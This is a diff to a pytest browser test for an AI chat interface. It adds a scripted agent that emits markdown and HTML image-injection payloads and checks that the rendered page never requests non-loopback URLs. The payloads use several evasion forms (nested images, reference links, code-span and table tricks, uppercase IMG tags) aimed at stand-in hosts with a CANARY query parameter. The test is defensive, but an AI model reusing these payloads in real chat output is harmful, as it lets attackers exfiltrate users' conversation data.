@@ -27,18 +27,46 @@ from memory.journal import Journal
 
 CHROMIUM = Path("/usr/bin/chromium")
 CHROMIUM_ARGS = [
-    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
-    "--disable-component-update", "--disable-sync",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
 ]
 NOTICE = "Running on a scripted test model: fine for a demo, unreliable on facts."
 ATTACK = (
-    "Here: ![pixel](http://203.0.113.9/p.png?q=CANARY) and <img src=\"http://203.0.113.9/q.png\"> "
-    "<div style=\"background:url(http://203.0.113.9/bg.png)\">styled</div> done."
+    'Here: ![pixel](http://203.0.113.9/p.png?q=CANARY) and <img src="http://203.0.113.9/q.png"> '
+    '<div style="background:url(http://203.0.113.9/bg.png)">styled</div> done.'
 )
+# Markdown that hid images from the old code-span guess, and the other forms an image can take.
+MARKDOWN_ATTACK = "\n".join(
+    [
+        "note ~~~ ![x](http://203.0.113.10/t.png?q=CANARY)",
+        "",
+        "see ``` then ![a](http://203.0.113.11/b.png)",
+        "",
+        "ref ![r][img] and ![img] and [![badge](HTTP://203.0.113.12/c.png)](http://203.0.113.12/)",
+        "",
+        "nested ![a ![b](//203.0.113.13/d.png)](https://203.0.113.14/e.png) \\![f](http://203.0.113.15/g.png)",
+        "",
+        '<a title="`">x</a> `![i](http://203.0.113.16/h.png)` <IMG SRC=//203.0.113.17/i.png>',
+        "",
+        "| a | b |",
+        "|---|---|",
+        "| `x | ![t](http://203.0.113.18/j.png) ` | y |",
+        "",
+        "kept: `![code](http://203.0.113.19/k.png)` end.",
+        "",
+        "[img]: http://203.0.113.20/l.png",
+    ]
+)
+SCRIPTED_ANSWERS = {"attack": ATTACK, "markdown attack": MARKDOWN_ATTACK}
 
 
 class ScriptedAgent:
-    """Echoes the last user message word by word; `tool …`, `attack` and `slow …` script other runs."""
+    """Echoes the last user message word by word; `tool …`, `slow …` and `SCRIPTED_ANSWERS` script others."""
 
     async def run(
         self, messages: list[Message], *, cancel: asyncio.Event | None = None
@@ -48,7 +76,7 @@ class ScriptedAgent:
             call = ToolCall("t1", "search", {"query": text})
             yield ToolCallStarted(call)
             yield ToolCallEnded(call, ok=True, output="3 results", elapsed_ms=12)
-        answer = ATTACK if text == "attack" else f"Echo: {text}"
+        answer = SCRIPTED_ANSWERS.get(text, f"Echo: {text}")
         if text.startswith("slow"):
             answer = " ".join(f"w{i}" for i in range(200))
         streamed = []
@@ -70,10 +98,19 @@ class Server:
 
 @dataclass
 class Recorder:
-    """Every URL the page requested; `foreign` holds those for non-loopback hosts (aborted)."""
+    """Every URL the page requested; `foreign` holds those for non-loopback hosts (aborted).
+
+    `urls` and `foreign` come from route interception; `events` from the page's own request events, which
+    also see requests a route may not (service workers, some preloads), so a test can check both.
+    """
 
     urls: list[str] = field(default_factory=list)
     foreign: list[str] = field(default_factory=list)
+    events: list[str] = field(default_factory=list)
+
+    def left_loopback(self) -> list[str]:
+        """Every non-loopback URL seen either way."""
+        return sorted({*self.foreign, *(url for url in self.events if not _is_loopback_url(url))})
 
 
 def _free_port() -> int:
@@ -109,7 +146,8 @@ def server(tmp_path_factory: pytest.TempPathFactory, chromium_path: Path) -> Ite
     data = tmp_path_factory.mktemp("gui")
     journal = Journal(data / "j.db")
     orchestrator = Orchestrator(
-        models=[ModelChoice("scripted", ScriptedAgent())], log=journal,
+        models=[ModelChoice("scripted", ScriptedAgent())],
+        log=journal,
         context=ContextGatherer(JournalHistory(journal, 8)),
         prompt=PromptBuilder("You are a test.", EstimateCounter(), 8000),
     )
@@ -151,6 +189,7 @@ def page(browser: Any, server: Server) -> Iterator[tuple[Any, Recorder]]:
 
     context.route("**/*", route)
     page = context.new_page()
+    page.on("request", lambda request: recorder.events.append(request.url))
     page.set_default_timeout(15_000)
     page.goto(server.url)
     page.wait_for_selector("#msg textarea")
